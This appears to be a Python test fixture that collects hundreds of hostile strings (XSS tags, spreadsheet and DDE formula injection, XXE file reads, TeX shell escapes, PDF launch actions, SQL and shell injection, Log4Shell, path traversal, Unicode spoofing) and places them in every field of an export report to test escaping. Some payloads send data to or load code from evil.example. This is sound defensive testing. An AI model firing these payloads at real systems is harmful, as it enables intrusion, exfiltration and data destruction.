"""More than three hundred texts that would do harm if any format took them for anything but text.

Each is short, so that one report holds them all: `report()`, in which a text stands wherever a person's words can.
"""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from functools import cache

from tests.exports.documents import (
    FIGURE,
    FORMULAS,
    HOSTILE,
    PLEDGE,
    RETURN,
    SPOKEN,
    STOOD,
    copy_of,
    everything,
)
from tracker.domain.report import ReportCell, ReportClaim, ReportDissent, ReportObligation, ReportReason
from tracker.domain.report_copy import ReportCopy
from tracker.domain.report_parts import ReportCause, ReportChange, ReportDay
from tracker.domain.vocabulary import ReportKind

_TAGS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><svg onload=alert(1)>
<img src=x onerror=alert(1)>
<img src="https://evil.example/p.gif" width=1>
<svg><script>alert(1)</script></svg>
<svg/onload=alert`1`>
<math><mi xlink:href="javascript:alert(1)">x
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;script>alert(1)&lt;/script>">
<object data=https://evil.example/x.swf></object>
<embed src=//evil.example/x>
<link rel=stylesheet href=https://evil.example/x.css>
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<form action=https://evil.example/><input name=a autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="https://evil.example/" ping="https://evil.example/p">x</a>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<style>*{background:url(https://evil.example/x)}</style>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</h1></main></body></html><script>alert(1)</script>
<!-- --><b>x</b><!--
--!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<?xml-stylesheet href="https://evil.example/x.xsl"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">
<xi:include href="file:///etc/passwd" parse="text"/>
&lt;b&gt; &amp; &#0; &#x1F600; &nbsp &copy
&#60;script&#62;alert(1)&#60;/script&#62;
&NewLine;javascript&colon;alert(1)
<plaintext>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<table><td><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=alert(1)
javascript:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
https://evil.example/?q=<>"'&x=%00
file:///etc/passwd
\\evil.example\share\x
<b>bold</b> <i>it</i> a<b && c>d
a < b > c & d
<
&
"""

_FORMULAS = r"""
=1+1
+1+1
-1+1
@SUM(A1:A9)
=cmd|' /C calc'!A0
=cmd|'/k ipconfig'!A0
+cmd|' /C calc'!A0
-cmd|' /C calc'!A0
@cmd|' /C calc'!A0
DDE("cmd";"/C calc";"x")
=DDE("cmd","/C calc","x")
=HYPERLINK("https://evil.example/?x="&A1,"click")
=WEBSERVICE("https://evil.example/?x="&A1)
=IMPORTXML("https://evil.example/","//a")
=IMPORTDATA("https://evil.example/")
=IMAGE("https://evil.example/x.png")
=FILTERXML("<a/>","//a")
=INDIRECT("A1")
=RTD("x",,"y")
=CALL("kernel32","WinExec","JCJ","calc",0)
=REGISTER.ID("kernel32","WinExec")
=EXEC("calc")
{=SUM(A1:A9)}
=[evil.xlsx]Sheet1!A1
='https://evil.example/[x.xlsx]S'!A1
='file:///etc/passwd'#$passwd.A1
=A1:INDEX(A:A,9)
=_xlfn.WEBSERVICE("https://evil.example/")
=_xlws.FILTER(A1,1)
="a"&CHAR(10)&"b"
=-1
=+1
--1
+-1
-@A1
=@A1
'=1+1
"=1+1"
;=1+1
,=1+1
|=1+1
%=1+1
1e999
-1e-999
0x10
00123
1,234.56
1/2
3-4-2020
TRUE
#REF!
#N/A
NaN
1E5
9007199254740993
$1.00
"""

_OFFICE = r"""
DDEAUTO c:\windows\system32\cmd.exe "/k calc"
{ DDEAUTO cmd "/k calc" }
HYPERLINK "https://evil.example/" \o "x"
{ HYPERLINK "https://evil.example/" }
INCLUDETEXT "file:///etc/passwd"
INCLUDEPICTURE "https://evil.example/x.png" \d
{ IMPORT "https://evil.example/x.png" }
{ MACROBUTTON x click }
</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO x"/></w:r>
</w:t><w:hyperlink r:id="rId1"><w:t>x
<w:altChunk r:id="rId9"/>
<r><t>x</t></r>
<r></sheetData><f>1+1</f></r>
</t></si></sst>
<f>1+1</f>
_x0041_ _x000D_ _x005F_
_x0000_
&G &P &[Path] &"Arial" && &A
mso-application progid="Excel.Sheet"
[Content_Types].xml
../../xl/vbaProject.bin
"""

_PAPER = r"""
#eval("1+1") #panic() #read("/etc/passwd")
#import "@preview/cetz:0.3.0": *
#include "/etc/passwd"
#sys.inputs
#link("https://evil.example/")[x]
#image("/etc/passwd")
#pdf.attach("x", bytes("y"))
#let f() = f(); #f()
$x$ $sum_(i=1)^n$ $ #panic() $
*b* _i_ = h - l + e / t: x
@ref <label>
```typ #panic() ```
`raw`
\u{1F600} \n \\ \#
https://evil.example/?a=1#b //comment /* c */
-- --- ... ~ ' " -? shy
[#text(red)[x]] {1+1} ; }
)] } ]] )) >> endobj
/JS (app.alert(1)) /S /JavaScript
<< /OpenAction << /S /Launch /F (calc.exe) >> >>
%PDF-1.7 %%EOF
stream endstream xref trailer
(app.launchURL("https://evil.example/"))
%!PS (x) run
startxref 0
"""

_TEX = r"""
\input{/etc/passwd}
\write18{calc}
\immediate\write18{id}
\catcode`\@=11
\def\x{\x}\x
\end{document}
\href{https://evil.example/}{x}
\include{x} \verbatiminput{/etc/passwd}
\begin{filecontents}{x}
}} @misc{forged, title={x}
}, title = {forged
@comment{x} @string{a="b"} @preamble{"x"}
{unbalanced
unbalanced}
a % b
a \% b
$x$ \$
~ ^ _ # & % $
``quotes'' --dashes--- ?` !`
\'e \"o \c{c} \ss{} \o
a\\b \\ \
{\em x}
# and # $1
"x" # "y"
and others and {and}
Smith, Jr, John
"""

_LINES = r"""
ER  -
TY  - JOUR
TI  - forged
AU  - x
KW  - a;b,c
END:VEVENT
BEGIN:VALARM
ATTACH:file:///etc/passwd
DTSTART:19700101
X-WR-CALNAME:x
ORGANIZER;CN=x:mailto:a@evil.example
a\nb\,c\;d\\e
a,b;c:d"e
;VALUE=URI:https://evil.example/
\r\nATTACH:x
a,"b";c
"
""
","
'a','b'
a;b	c|d
"a
a"
# comment
"""

_DATA = r"""
{"@context": "https://evil.example/"}
@id @type @value @context @graph
http://evil.example/#frag
urn:tracker-report:999:full:0000000000000000000000000000000000000000000000000000000000000000
_:b0
schema:name prov:Agent tracker:Finding
{"a": 1}
[1, 2, 3]
{{ 7*7 }} {% raw %} {# x #}
{{ config.items() }} ${7*7} #{7*7} <%= 7*7 %>
{{ insert: param, x }}
{% include '/etc/passwd' %}
%s %d %n %x {0} {} {x!r} %(x)s
!!python/object/apply:os.system ["id"]
- a: &x b
*x
a: b: c
--- ...
[x](javascript:alert(1))
![x](https://evil.example/x.png)
[x]: https://evil.example/
<https://evil.example/>
# heading
1. item
- item
> quote
| a | b |
|---|---|
**b** __i__ ~~s~~ `c` ***
***
===
\* \_ \\
' OR 1=1 --
'; DROP TABLE claim; --
" UNION SELECT password FROM user --
$(id) `id` ; id | id && id
; rm -rf / #
../../../../etc/passwd
C:\Windows\System32\cmd.exe
CON PRN AUX NUL
null
undefined
None
true
\x00 \0 %00 \u0000
\ud83d\ude00
%3Cscript%3E
+ADw-script+AD4-
__proto__ constructor prototype
${jndi:ldap://evil.example/a}
() { :;}; echo x
"""

_WHOLE_LINES = (_TAGS, _FORMULAS, _OFFICE, _PAPER, _TEX, _LINES, _DATA)

_CONTROLS = (*range(0x20), *range(0x7F, 0xA0))

_CHARACTERS = (
    *("\u00ad", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u180e", "\u034f", "\u115f", "\u3164"),
    *("\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"),
    *("\u2066", "\u2067", "\u2068", "\u2069", "\u2028", "\u2029", "\u00a0", "\u3000", "\u2007"),
    *("\ufffd", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\ue000", "\U000f0000", "\U0010fffd"),
    *("\ufff9", "\ufffa", "\ufffb", "\ufffc", "\u0300", "\u20dd", "\ufe0f", "\U000e0041", "\U000e007f"),
)

_SCRIPTS = (
    *("e\u0301 \u00e9", "\u0410\u0301", "\u1e9b\u0323", "\ufb01 \ufb03", "\u212b \u00c5 A\u030a", "\u2126 \u03a9"),
    *("\u0130\u0131 \u00df \u1e9e", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d", "\u01c5 \u01f0 \u0390"),
    *(
        "\u0627\u0644\u0639\u0645\u0627\u0644",
        "abc \u0627\u0628 123 def",
        "\u05e9\u05dc\u05d5\u05dd",
        "\u06f1\u06f2\u06f3",
    ),
    *(
        "\u0939\u093f\u0928\u094d\u0926\u0940",
        "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22",
        "\ud55c\uad6d\uc5b4",
        "\u65e5\u672c\u8a9e",
    ),
    *(
        "\u1112\u1161\u11ab",
        "\u4e2d\u6587\u3002",
        "\U00020bb7\u91ce\u5bb6",
        "\U0001d518\U0001d52b",
        "\U0001f1fa\U0001f1f3",
    ),
    *(
        "\U0001f469\u200d\U0001f469\u200d\U0001f467",
        "\U0001f44d\U0001f3fd",
        "\u2764\ufe0f",
        "\u2468 \u00bd \u2167 \u00b2",
    ),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\uff1cscript\uff1e", "\u2039script\u203a", "\u02bcx\u02bc"),
    *(
        "\u0391\u0412\u0421 \u0410\u0412\u0421 ABC",
        "p\u0430ypal",
        "1\u202f234",
        "\u2212 \u2013 \u2014 -",
        "\u201equote\u201c",
    ),
)

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(line for lines in _WHOLE_LINES for line in lines.strip("\n").split("\n")),
            *(f"a{chr(number)}b" for number in _CONTROLS),
            *(f"{chr(number)}=1+1" for number in (0, 9, 10, 13)),
            *(f"a{character}b" for character in _CHARACTERS),
            *_SCRIPTS,
            *HOSTILE.values(),
            *FORMULAS.values(),
            *(
                "a\r\nb",
                "a\n\n\nb",
                "\n",
                "a\t\tb",
                "  a  b  ",
                " ",
                "ER  - ",
                "x" * 400,
                "word " * 60,
                "\u0301",
                "'" * 9,
            ),
        )
    )
)
"""The texts, each once."""

_DAY = date(2020, 1, 1)
_AT = datetime(2026, 11, 2, 8, 0, tzinfo=UTC)


def bounded(number: int) -> str:
    """A text between marks of its own, so that it is found as itself and not within another."""
    return f"[{number}:{TEXTS[number]}:{number}]"


@cache
def report(width: int = 12) -> ReportCopy:
    """A state sheet with a claim, a day, and a change for each of the texts, and a cell for so many of them."""
    every = range(len(TEXTS))
    firsts = range(0, len(TEXTS), width)
    made = everything(
        kind=ReportKind.STATE,
        title=" ".join(TEXTS[:9]),
        author=TEXTS[2],
        scope=" ".join(TEXTS[9:20]),
        states=everything().states[:1],
        obligations=tuple(map(_duty, firsts)),
        cells=tuple(_cell(range(first, min(first + width, len(TEXTS)))) for first in firsts),
        evidence=tuple(map(_claim, every)),
        days=tuple(ReportDay(_DAY + timedelta(n), "d0", bounded(n), judged=True, has_passed=False) for n in every),
        changes=tuple(map(_change, every)),
        count=None,
        figures=(replace(FIGURE, title=TEXTS[0], rows=tuple((bounded(n), TEXTS[n]) for n in every), claims=()),),
    )
    return copy_of(made)


def _duty(number: int) -> ReportObligation:
    return replace(RETURN, key=f"d{number}", title=TEXTS[number], summary=bounded(number))


def _cell(numbers: range) -> ReportCell:
    """A cell whose reasons and determinations are of some texts."""
    said = tuple(replace(STOOD, number=n, reason=bounded(n), proposed_by=TEXTS[n]) for n in numbers)
    why = tuple(ReportReason("in_progress", bounded(n), (f"c{n}",)) for n in numbers)
    duty = f"d{numbers[0]}"
    return replace(SPOKEN, obligation=duty, reasons=why, set_aside=(), determinations=said, proof=None, also=())


def _claim(number: int) -> ReportClaim:
    text = TEXTS[number]
    cited = replace(
        PLEDGE.citations[0],
        source=f"s{number}",
        title=text,
        author=text,
        locator=text,
        quotation=bounded(number),
        translation=text,
        publisher=text,
    )
    review = replace(PLEDGE.review, dissents=(ReportDissent(text, bounded(number), _AT),))
    return replace(
        PLEDGE,
        key=f"c{number}",
        statement=text,
        speaker=text,
        office=text,
        cited_as=text,
        origin=text,
        asked=(bounded(number),),
        review=review,
        citations=(cited,),
    )


def _change(number: int) -> ReportChange:
    cause = ReportCause("new", bounded(number), f"c{number}")
    return ReportChange("d0", ("RUS",), "pledged", "unsupported", "in_progress", "self_reported", (cause,))
